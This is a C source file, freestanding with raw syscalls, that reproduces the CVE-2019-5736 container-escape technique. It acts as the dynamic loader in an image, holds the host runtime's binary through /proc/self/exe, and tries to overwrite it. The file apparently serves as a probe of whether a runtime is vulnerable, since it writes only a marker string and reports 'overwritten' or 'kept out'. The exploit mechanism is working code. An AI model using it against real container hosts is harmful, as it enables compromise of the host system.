// What CVE-2019-5736 does: lies in an image where the runtime's program expects its dynamic loader, so that a runtime
// that executes something of the guest's that leads back to /proc/self/exe runs this. It holds the program it was
// loaded for, lets it end, and then writes to it. No C library: the kernel starts it in another program's place.
//
//   (as a loader)             keeps a descriptor of /proc/self/exe and becomes /overwrite
//   /overwrite KEPT           tries to open descriptor KEPT for writing, for a second, and to write
// Prints "overwritten" and exits 66 when that worked; "kept out" and exits 0 when it did not.
#include <fcntl.h>
#include <sys/syscall.h>

#include <stddef.h>

static long call(long number, long a, long b, long c, long d) {
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
}

static void say(const char* text) {
    size_t length = 0;
    while (text[length] != '\0') {
        ++length;
    }
    (void)call(SYS_write, 1, (long)text, (long)length, 0);
}

static void nap(void) {
    const long ten_ms[2] = {0, 10000000};
    (void)call(SYS_nanosleep, (long)ten_ms, 0, 0, 0);
}

__attribute__((noreturn)) static void leave(int code) {
    for (;;) {
        (void)call(SYS_exit_group, code, 0, 0, 0);
    }
}

// The program's file has to be out of execution before it can be opened for writing.
static int overwrite(void) {
    // The descriptor is always 9: no number needs to be turned into text.
    for (int i = 0; i < 100; ++i) {
        const long fd = call(SYS_open, (long)"/proc/self/fd/9", O_WRONLY, 0, 0);
        if (fd >= 0) {
            if (call(SYS_write, fd, (long)"overwritten", 11, 0) > 0) {
                say("overwritten\n");
                return 66;
            }
        }
        nap();
    }
    say("kept out\n");
    return 0;
}

__attribute__((used, noreturn)) static void begin(const long* stack) {
    const long argc = stack[0];
    const char* const* argv = (const char* const*)(stack + 1);
    if (argc == 2 && argv[1][0] == 'K') {
        leave(overwrite());
    }
    const long self = call(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0, 0);
    if (self < 0 || call(SYS_dup2, self, 9, 0, 0) != 9) {
        say("no program to hold\n");
        leave(1);
    }
    // The runtime waits for nobody: what it started goes on behind its back.
    if (call(SYS_fork, 0, 0, 0, 0) != 0) {
        leave(0);
    }
    const char* next[] = {"/overwrite", "KEPT", NULL};
    const char* environment[] = {NULL};
    (void)call(SYS_execve, (long)next[0], (long)next, (long)environment, 0);
    say("cannot become /overwrite\n");
    leave(1);
}

__asm__(".global _start\n_start:\n  mov %rsp, %rdi\n  and $-16, %rsp\n  call begin\n");
